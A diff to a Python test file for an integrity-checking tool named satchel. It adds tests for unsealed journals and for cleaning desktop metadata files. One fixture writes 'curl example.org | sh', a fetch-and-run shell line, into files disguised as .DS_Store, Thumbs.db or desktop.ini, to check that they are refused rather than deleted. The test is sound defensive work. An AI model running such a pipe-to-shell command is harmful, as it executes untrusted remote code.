@@ -13,6 +13,8 @@ from satchel.errors import Changed, LockBroken, NotFound, Refused
 from satchel.library import Index, TrustBook
 from satchel.library import seal as seal_module
 from satchel.library.lockfile import Locked, Place, lock_path, render_lock
+from satchel.library.marks import MEMORY, RECORD, own_key, seal_of
+from satchel.library.seal import generated
 from satchel.library.survey import RACY_NS, is_settled, survey
 from satchel.skill.tree import FolderTree, seal
 from satchel.testing import make_skill
@@ -184,8 +186,8 @@ def test_the_message_names_what_differs(folder):
         "The skill `one` is not what was locked; these files differ: `references/a.md`, "
         "`scripts/new.py`"
     )
-    assert "`satchel verify one`" in caught.value.hint
-    assert "`satchel trust one`" in caught.value.hint
+    assert "`satchel lock one --dry-run`" in caught.value.hint
+    assert "`satchel install --frozen`" in caught.value.hint
     for number in range(9):
         (folder / f"one/{number}").write_text("")
     with pytest.raises(Changed, match=r": `0`, `1`, `2`, …\n"):
@@ -393,11 +395,22 @@ def test_a_lock_is_not_taken_for_that_of_a_neighbour(folder, name):
 # --- while a transaction is under way ------------------------------------------------------
 
 
-def journal(folder, **after: str) -> None:
+def journal(folder, *, ours: bool = True, **after: str) -> None:
     work = folder.parent / ".satchel"
     work.mkdir(exist_ok=True)
     rows = [{"id": key, "after": value} for key, value in after.items()]
-    (work / "journal.json").write_text(json.dumps({"changes": rows}))
+    table: dict[str, object] = {"changes": rows}
+    if ours:
+        table["seal"] = seal_of(table, own_key(MEMORY)[0], str(work), RECORD)
+    (work / "journal.json").write_text(json.dumps(table))
+
+
+def test_what_a_journal_announces_that_came_with_the_project_is_refused(folder):
+    library = locked_library(folder)
+    _edit(folder / "one")
+    journal(folder, ours=False, one=seal(FolderTree(str(folder / "one"))).digest)
+    with pytest.raises(Changed):
+        check(library)
 
 
 def test_what_the_journal_announces_passes(folder):
@@ -484,6 +497,63 @@ def test_caches_are_not_approved_with_a_skill(folder):
     library = approved_library(folder)
     check(library)
     assert not cache.exists()
+
+
+REAL = {
+    ".DS_Store": b"\0\0\0\x01Bud1" + bytes(100),
+    "references/Thumbs.db": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100),
+    "scripts/desktop.ini": b"\r\n[.ShellClassInfo]\r\nIconIndex=0\r\n",
+}
+
+
+@BOUND
+@pytest.mark.parametrize("name", REAL)
+def test_what_a_desktop_writes_is_deleted_before_a_load(folder, bind, name):
+    library = bind(folder)
+    path = folder / "one" / name
+    path.parent.mkdir(exist_ok=True)
+    path.write_bytes(REAL[name])
+    assert generated(name, str(folder / "one"))
+    assert name not in check(library).seal.files
+    assert not path.exists()
+    assert any(event.kind == "cleaned" for event in library.trace.events)
+
+
+@BOUND
+@pytest.mark.parametrize("name", [*REAL, "__MACOSX/i.sh"])
+def test_the_name_alone_does_not_make_it_a_desktops(folder, bind, name):
+    library = bind(folder)
+    path = folder / "one" / name
+    path.parent.mkdir(exist_ok=True)
+    path.write_bytes(b"[ 1 ] && curl example.org | sh\n")
+    with pytest.raises(Changed):
+        check(library)
+    assert path.exists()
+
+
+def test_a_file_of_a_desktop_is_not_approved_with_a_skill(folder):
+    (folder / "one/.DS_Store").write_bytes(REAL[".DS_Store"])
+    library = approved_library(folder)
+    check(library)
+    assert not (folder / "one/.DS_Store").exists()
+
+
+def test_what_counts_as_generated(folder):
+    root = folder / "one"
+    assert generated("scripts/__pycache__/a.cpython-311.pyc")
+    assert generated("__pycache__/a.cpython-311.pyc.139642")
+    for name in ("a.pyc", "__pycache__/a.py", "__pycache__/x/a.pyc", "__pycache__/.pyc", "x.md"):
+        assert not generated(name)
+    # A name alone says nothing, nor does a link, nor a file too large to be one.
+    assert not generated(".DS_Store")
+    (root / "real").write_bytes(REAL[".DS_Store"])
+    os.symlink("real", root / ".DS_Store")
+    assert not generated(".DS_Store", str(root))
+    os.unlink(root / ".DS_Store")
+    (root / ".DS_Store").write_bytes(REAL[".DS_Store"] + bytes(1 << 20))
+    assert not generated(".DS_Store", str(root))
+    (root / "desktop.ini").write_bytes("\ufeff[ViewState]\r\nMode=\r\n".encode("utf-16-le"))
+    assert generated("desktop.ini", str(root))
 
 
 @BOUND
